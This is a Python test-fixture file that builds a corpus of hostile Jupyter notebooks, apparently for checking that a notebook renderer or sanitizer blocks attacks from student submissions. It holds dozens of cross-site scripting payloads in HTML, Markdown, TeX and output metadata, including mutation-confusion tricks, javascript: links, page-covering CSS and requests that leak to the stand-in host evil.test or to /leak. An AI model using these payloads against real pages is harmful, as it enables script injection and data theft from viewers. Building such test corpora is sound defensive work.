"""What a submission may try on those who look at it: notebooks that attack the page they are shown in.

Each payload calls `pwn()`, opens a dialog, or asks for something from `evil.test` or from `/leak` on the page's own
server. Some want a click; some are about what covers the page or takes its elements' names.
"""

from __future__ import annotations

import base64
import html
import io
from collections.abc import Callable
from typing import Any

import nbformat
from nbformat import NotebookNode

PWN = "pwn()"  # sets window.pwned; no sign in it that Markdown does not allow without quotes
EVIL = "https://evil.test/leak"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"><script>{PWN}</script></svg>'


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def png(width: int = 3, height: int = 2) -> str:
    from PIL import Image

    file = io.BytesIO()
    Image.new("1", (width, height)).save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


PNG = png()

# Pieces of HTML: shown as an output, in Markdown, and wherever else HTML may get through.
HTML = {
    "script": f"<script>{PWN}</script>",
    "script with an address": f'<script src="{EVIL}.js"></script>',
    "script in capitals, cut": f"<ScRiPt >{PWN}</ScRiPt",
    "script inside script": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "module": f'<script type="module">{PWN}</script>',
    "MathJax configuration": f'<script type="text/x-mathjax-config">{PWN}</script>',
    "image error": f'<img src="x:x" onerror="{PWN}">',
    "image error, slashes": f"<img/src='x:x'/onerror={PWN}>",
    "image error, no quotes, tab": f"<img src=x:x\tonerror={PWN}//",
    "image error, quotes inside": f'<img """><img src="x:x" onerror="{PWN}">">',
    "image error, entities": '<img src="x:x" onerror="&#112;wn()">',
    "svg onload": f'<svg onload="{PWN}"></svg>',
    "svg script": f"<svg><script>{PWN}</script></svg>",
    "svg animate": f'<svg><a><animate attributeName="href" values="javascript:{PWN}"/><text y="20">x</text></a></svg>',
    "svg set": f'<svg><set attributeName="onmouseover" to="{PWN}" onbegin="{PWN}"/></svg>',
    "svg foreignObject": f'<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{PWN}"><img src="x:x" onerror="{PWN}"></body></foreignObject></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{encoded(SVG)}#x"/></svg>',
    "svg image": f'<svg><image href="{EVIL}.png"/></svg>',
    "math": f'<math><maction actiontype="statusline" xlink:href="javascript:{PWN}">x</maction></math>',
    "math and style confusion": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror={PWN}&gt;">',
    "form and math confusion": f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x:x onerror={PWN}>">',
    "svg and style confusion": f'<svg></p><style><a id="</style><img src=x:x onerror={PWN}>">',
    "noscript confusion": f'<noscript><p title="</noscript><img src=x:x onerror={PWN}>"></noscript>',
    "title confusion": f'<title><a href="</title><img src=x:x onerror={PWN}>"></title>',
    "textarea confusion": f'<textarea><a title="</textarea><img src=x:x onerror={PWN}>">',
    "comment confusion": f"<!--><img src=x:x onerror={PWN}>-->",
    "comment closed oddly": f"<!-- --!><img src=x:x onerror={PWN}> -->",
    "CDATA": f"<![CDATA[><img src=x:x onerror={PWN}>]]>",
    "processing instruction": f"<?xml version='1.0'?><img src=x:x onerror={PWN}>",
    "template": f"<template><img src=x:x onerror={PWN}></template><img src=x:x onerror={PWN}>",
    "xmp": f'<xmp><p title="</xmp><img src=x:x onerror={PWN}>">',
    "closing the page": f"</pre></div></div></body></html><script>{PWN}</script>",
    "body": f'<body onload="{PWN}" onpageshow="{PWN}">',
    "details": f'<details open ontoggle="{PWN}"><summary>x</summary></details>',
    "focus": f'<input autofocus onfocus="{PWN}">',
    "focus without an input": f'<a id=x tabindex=1 autofocus onfocus="{PWN}">x</a>',
    "video": f'<video><source onerror="{PWN}"></video>',
    "audio": f'<audio src="x:x" onerror="{PWN}"></audio>',
    "marquee": f'<marquee onstart="{PWN}">x</marquee>',
    "animation": f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{PWN}">x</b>',
    "unknown element": f'<x-y onmouseover="{PWN}" tabindex=1 autofocus onfocus="{PWN}">x</x-y>',
    "iframe": f'<iframe src="javascript:parent.{PWN}"></iframe>',
    "iframe with a document": f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    "iframe elsewhere": f'<iframe src="{EVIL}"></iframe>',
    "object": f'<object data="javascript:{PWN}"></object><object data="{EVIL}"></object>',
    "embed": f'<embed src="data:text/html;base64,{encoded(f"<script>parent.{PWN}</script>")}"><embed src="{EVIL}">',
    "frameset": f'<frameset onload="{PWN}"><frame src="{EVIL}"></frameset>',
    "link": f'<a href="javascript:{PWN}">x</a>',
    "link, entities": '<a href="&#106;avascript:pwn()">x</a>',
    "link, tab and line end": f'<a href="java\tscr\nipt:{PWN}">x</a>',
    "link, control character": f'<a href="\x01javascript:{PWN}">x</a>',
    "link, data": f'<a href="data:text/html,<script>{PWN}</script>">x</a>',
    "link, vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link, files/": f'<a href="files/javascript:{PWN}">x</a>',
    "link, ping": f'<a href="#x" ping="{EVIL}">x</a>',
    "area": f'<map name="m"><area href="javascript:{PWN}"></map><img usemap="#m" src="data:image/png;base64,{PNG}">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "base": f'<base href="{EVIL}/">',
    "stylesheet": f'<link rel="stylesheet" href="{EVIL}.css">',
    "prefetch": f'<link rel="preload" as="image" href="{EVIL}.png"><link rel="icon" href="{EVIL}.ico">',
    "style import": f'<style>@import "{EVIL}.css";</style>',
    "style, picture": f'<div style="background:url({EVIL}.png)">x</div>',
    "style, picture in a colour": f'<div style="background-color:red;background-image:url({EVIL}.png)">x</div>',
    "style, covers": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">x</div>',
    "style, covers, escaped": '<div style="p\\6fsition:fixed;inset:0">x</div>',
    "style, margins": '<div style="margin-top:-999px;height:999px;background-color:white">x</div>',
    "style element, covers": "<style>body{display:none}</style>",
    "class, covers": '<div class="modal-backdrop">x</div><div class="navbar-fixed-top">x</div>',
    "id": '<div id="notebook">x</div><a name="top">x</a><b id="xor">x</b>',
    "data attributes": f'<a data-toggle="tooltip" data-html="true" title="<img src=x:x onerror={PWN}>" data-link="x">x</a>',
    "form": f'<form action="{EVIL}"><input name="x"><button>x</button></form>',
    "form elsewhere": f'<button form="f" formaction="javascript:{PWN}">x</button><form id="f"></form>',
    "picture elsewhere": f'<img src="{EVIL}.png">',
    "picture elsewhere, srcset": f'<img srcset="{EVIL}.png 1x"><picture><source srcset="{EVIL}.png"></picture>',
    "picture on this server": '<img src="/leak">',
    "picture on this server, relative": '<img src="../leak"><img src="leak?x=.png"><img src="files//leak.png">',
    "picture without a scheme": '<img src="//evil.test/leak.png"><img src="\\\\evil.test\\leak.png">',
    "picture, low": f'<img lowsrc="{EVIL}.png" dynsrc="{EVIL}.png"><table background="{EVIL}.png"><td background="{EVIL}.png">x</table>',
    "svg as a picture": f'<img src="data:image/svg+xml;base64,{encoded(SVG)}">',
    "not a picture": f'<img src="data:image/png;base64,{encoded(SVG)}">',
    "video poster": f'<video poster="{EVIL}.png" src="{EVIL}.mp4"></video>',
    "TeX link": rf"<p>$\href{{javascript:{PWN}}}{{x}}$</p>",
    "TeX link in pieces": rf"<p>$\hr<!-- -->ef{{javascript:{PWN}}}{{x}} \st<wbr>yle{{position:fixed}}{{x}}$</p>",
    "TeX, entity": r"<p>$&#92;class{modal-backdrop}{x} &#92;cssId{top}{x}$</p>",
    "TeX, covers": r"<p>$\rule{999em}{999em}\raise 99em{x}\hspace{-50em}x\bbox[position:fixed]{x}$</p>",
}

# Markdown of its own kind.
MARKDOWN = {
    "md link": f"[x](javascript:{PWN})",
    "md link, entities": f"[x](&#106;avascript:{PWN})",
    "md link, tab": f"[x](<java\tscript:{PWN}>)",
    "md link, files/": f"[x](files/javascript:{PWN})",
    "md link, reference": f"[x][y]\n\n[y]: javascript:{PWN}",
    "md link, data": f"[x](data:text/html;base64,{encoded(f'<script>{PWN}</script>')})",
    "md link, title": f'[x](https://a.test "x\\" onmouseover=\\"{PWN}")',
    "md autolink": f"<javascript:{PWN}>",
    "md picture": f"![x](javascript:{PWN})",
    "md picture elsewhere": f"![x]({EVIL}.png)",
    "md picture on this server": "![x](/leak)",
    "md picture, quotes": f'![" onerror="{PWN}](x:x)',
    "md picture, svg": f"![x](data:image/svg+xml;base64,{encoded(SVG)})",
    "md mermaid": f"```mermaid\n<img src=x:x onerror={PWN}>\n```",
    "md code, language": f'```"><img/src=x:x/onerror={PWN}>\nx\n```',
    "md heading": f"# x <img src=x:x onerror={PWN}>",
    "md heading, id": "# xor\n\n# notebook",
    "md table": f"| a |\n|---|\n| <img src=x:x onerror={PWN}> |",
    "md math": f"$<img src=x:x onerror={PWN}>$\n\n$$</p><script>{PWN}</script>$$",
    "md math environment": f"\\begin{{align}}<img src=x:x onerror={PWN}>\\end{{align}}",
    "md TeX": rf"$\href{{javascript:{PWN}}}{{x}}\unicode{{x}}\require{{x}}\style{{position:fixed}}{{x}}$",
    "md missing attachment": "![x](attachment:nothing.png)",
    "md html in a list": f"- a\n\n  <div>\n\n  <img src=x:x onerror={PWN}>\n\n  </div>",
    "md too deep": "> " * 3000 + "x",
    "md what cleaning leaves": f"<div>&#91;x&#93;&#40;javascript:{PWN}&#41; \n\n[x](javascript:{PWN})</div>",
}


def cell(kind: str, source: str, **parts: Any) -> NotebookNode:
    """Return a cell that nobody has validated: nbformat would refuse some of these, and only warns when it reads them."""
    code = {"outputs": [], "execution_count": None} if kind == "code" else {}
    made = {"cell_type": kind, "id": "some-cell", "metadata": {}, "source": source, **code, **parts}
    return nbformat.from_dict(made)


def new_code_cell(source: str, **parts: Any) -> NotebookNode:
    return cell("code", source, **parts)


def new_markdown_cell(source: str, **parts: Any) -> NotebookNode:
    return cell("markdown", source, **parts)


def new_raw_cell(source: str, **parts: Any) -> NotebookNode:
    return cell("raw", source, **parts)


def new_notebook(**parts: Any) -> NotebookNode:
    return nbformat.from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [], **parts})


def new_output(kind: str, data: dict[str, Any] | None = None, **parts: Any) -> NotebookNode:
    bundle = {} if data is None else {"data": data, "metadata": {}}
    return nbformat.from_dict({"output_type": kind, **bundle, **parts})


def with_output(output: NotebookNode, **cell: Any) -> NotebookNode:
    return new_notebook(cells=[new_code_cell("1", outputs=[output], **cell)])


def display(data: dict[str, Any], **metadata: Any) -> NotebookNode:
    return new_output("display_data", data, metadata=metadata)


def html_outputs() -> dict[str, NotebookNode]:
    return {f"output: {name}": with_output(display({"text/html": text})) for name, text in HTML.items()}


def markdown_cells() -> dict[str, NotebookNode]:
    texts = {**HTML, **MARKDOWN}
    return {f"cell: {name}": new_notebook(cells=[new_markdown_cell(text)]) for name, text in texts.items()}


def other_kinds() -> dict[str, NotebookNode]:
    """Return notebooks that try every other way in."""
    image = f'<img src="x:x" onerror="{PWN}">'
    ansi = f"\x1b[31m{image}\x1b[0m&lt;\x1b[38m{html.escape(image)}"
    value = new_output("execute_result", {"text/plain": image, "text/html": image}, execution_count=1)
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "x"}
    state = {"state": {"x": {"model_module": EVIL, "model_name": image, "state": {}}}}
    attachment: Callable[[Any], NotebookNode] = lambda kinds: new_notebook(  # noqa: E731
        cells=[new_markdown_cell("![x](attachment:a.png)", attachments={"a.png": kinds})]
    )
    found = {
        "javascript": with_output(display({"application/javascript": PWN})),
        "javascript, text": with_output(display({"text/javascript": PWN})),
        "value": with_output(value),
        "markdown output": with_output(display({"text/markdown": f"[x](javascript:{PWN}) {image}"})),
        "markdown output, mermaid": with_output(display({"text/markdown": f"```mermaid\n{image}\n```"})),
        "mermaid output": with_output(display({"text/vnd.mermaid": image})),
        "latex output": with_output(display({"text/latex": rf"$\href{{javascript:{PWN}}}{{x}}$ {image}"})),
        "svg output": with_output(display({"image/svg+xml": SVG})),
        "pdf output": with_output(display({"application/pdf": encoded(image)})),
        "unknown output": with_output(display({f'x/y"{image}': image})),
        "widget": with_output(display(widget)),
        "widget that is none": with_output(display({"application/vnd.jupyter.widget-view+json": image})),
        "json": with_output(display({"application/json": {"x": image}})),
        "png": with_output(display({"image/png": f'"><script>{PWN}</script>'})),
        "png, no picture": with_output(display({"image/png": encoded(image)})),
        "jpeg, no picture": with_output(display({"image/jpeg": PNG})),
        "png, width": with_output(display({"image/png": PNG}, **{"image/png": {"width": f"1 onload={PWN}"}})),
        "png, height": with_output(display({"image/png": PNG}, height=f"1 onload={PWN}")),
        "png, alt": with_output(display({"image/png": PNG}, **{"image/png": {"alt": f'" onload="{PWN}'}})),
        "png, file": with_output(display({"image/png": PNG}, filenames={"image/png": f"{EVIL}.png"})),
        "svg, file": with_output(display({"image/svg+xml": SVG}, filenames={"image/svg+xml": f"{EVIL}.svg"})),
        "isolated": with_output(
            display({"text/html": f"<script>parent.{PWN}</script>"}, **{"text/html": {"isolated": True}})
        ),
        "stdout": with_output(new_output("stream", name="stdout", text=ansi)),
        "stderr": with_output(new_output("stream", name="stderr", text=ansi)),
        "stream of another name": with_output(new_output("stream", name=image, text=image)),
        "text": with_output(display({"text/plain": ansi})),
        "error": with_output(new_output("error", ename=image, evalue=ansi, traceback=[ansi, image])),
        "error, unfinished colour": with_output(
            new_output("error", ename="x", evalue="x", traceback=["\x1b[48;2;1mx"])
        ),
        "execution count": with_output(value, execution_count=image),
        "tags": with_output(value, metadata={"tags": [f'"{image}'], "alt": f'"{image}'}),
        "id": with_output(value, id=f'x"{image}'),
        "magics language": with_output(value, metadata={"magics_language": f'"{image}'}),
        "source": new_notebook(cells=[new_code_cell(f"x = '''{image}</pre></div><script>{PWN}</script>'''")]),
        "source, magic": new_notebook(cells=[new_code_cell(f"%%html\n{image}")]),
        "source, hidden": with_output(value, metadata={"transient": {"remove_source": True}, "trusted": True}),
        "raw": new_notebook(cells=[new_raw_cell(f"{image}<div class='modal-backdrop' id='top'>x</div>")]),
        "raw html": new_notebook(
            cells=[new_raw_cell(f"<div class='modal'>{image}", metadata={"raw_mimetype": "text/html"})]
        ),
        "attachment, svg": attachment({"image/svg+xml": encoded(SVG)}),
        "attachment, html": attachment({"text/html": encoded(image)}),
        "attachment, no picture": attachment({"image/png": f'"><script>{PWN}</script>'}),
        "attachment, type": attachment({f'image/png"{image}': PNG}),
        "attachment, empty": attachment({}),
        "attachment, text": attachment(image),
        "grade id": new_notebook(cells=[task(grade_id=f'"><script>{PWN}</script>')]),
        "grade comment": new_notebook(cells=[task(comment=image)]),
        "grade points": new_notebook(cells=[task(points=image)]),
        "locked without a lock": new_notebook(cells=[task(locked=True, checksum="0")]),
        "title": new_notebook(metadata={"title": f"</title><script>{PWN}</script>"}, cells=[new_markdown_cell("x")]),
        "language": new_notebook(
            metadata={"language_info": {"name": f'"{image}', "pygments_lexer": f'"{image}'}}, cells=[new_code_cell("x")]
        ),
        "kernel": new_notebook(metadata={"kernelspec": {"name": image, "display_name": image}}),
        "widget state": new_notebook(
            metadata={"widgets": {"application/vnd.jupyter.widget-state+json": state}},
            cells=with_output(display(widget)).cells,
        ),
        "toolbar": new_notebook(metadata={"celltoolbar": image, "toc": image}, cells=[new_markdown_cell("x")]),
    }
    return {f"other: {name}": notebook for name, notebook in found.items()}


def task(**changed: Any) -> NotebookNode:
    """Return an answer in words, as nbgrader marks it, with something in it changed."""
    about = {
        "grade_id": "words", "grade": True, "solution": True, "locked": False, "task": False, "points": 1,
        "schema_version": 3, "cell_type": "markdown",
    }  # fmt: skip
    return new_markdown_cell(f"<img src=x:x onerror={PWN}>", metadata={"nbgrader": {**about, **changed}})


def corpus() -> dict[str, NotebookNode]:
    """Return all hostile notebooks by name."""
    found = {**html_outputs(), **markdown_cells(), **other_kinds()}
    return found


def friendly() -> NotebookNode:
    """Return a notebook of what has to survive, in every kind of cell and output."""
    table = (
        "<style scoped>td {color: red}</style><table border='1' class='dataframe'><thead><tr><th>loss</th></tr></thead>"
        "<tbody><tr><td style='color: red'>0.25</td></tr></tbody></table>"
    )
    text = (
        "# A heading\n\nSome *words*, `code < 1`, $a < b_1$ and [a link](https://example.org/x?y=1&z=2).\n\n$$\\sum_j w_j$$\n\n"
        "| head |\n|---|\n| entry |\n\n![attached](attachment:a.png)\n\n```python\nx = 1\n```\n"
    )
    own_html = f"A <b>bold</b> $x<y$ <img src='data:image/png;base64,{PNG}' alt='inlined'>\n\n<details><summary>more</summary>\n\n*inner*\n\n</details>"
    return new_notebook(
        cells=[
            new_markdown_cell(text, attachments={"a.png": {"image/png": PNG}}),
            new_markdown_cell(own_html),
            new_code_cell(
                "x = '<b>'",
                execution_count=3,
                outputs=[
                    new_output("stream", name="stdout", text="printed \x1b[31mred\x1b[0m <words>\n"),
                    display({"text/html": table, "text/plain": "table"}),
                    display({"text/html": f'<img alt="a figure" src="data:image/png;base64,{PNG}">'}),
                    display({"image/png": PNG}, **{"image/png": {"width": 30, "alt": "a plain picture"}}),
                    display({"text/latex": "$\\frac{1}{2}$"}),
                    display({"text/markdown": "a **strong** word"}),
                    new_output("execute_result", {"text/plain": "0.5"}, execution_count=3),
                    new_output("error", ename="ValueError", evalue="bad <value>", traceback=["\x1b[0;31mValueError\x1b[0m: bad <value>"]),
                ],
            ),
            new_raw_cell("raw <words>"),
        ]
    )  # fmt: skip
